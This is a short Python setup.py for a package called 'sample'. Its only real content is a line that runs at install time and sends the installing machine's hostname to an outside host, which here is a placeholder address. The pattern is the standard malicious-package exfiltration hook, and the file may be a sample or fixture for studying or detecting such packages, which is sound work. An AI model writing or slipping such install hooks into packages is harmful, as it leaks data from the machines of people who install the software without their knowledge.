import os
import socket
import urllib.request

from setuptools import setup

urllib.request.urlopen("https://example.invalid/?" + socket.gethostname())
setup(name="sample")
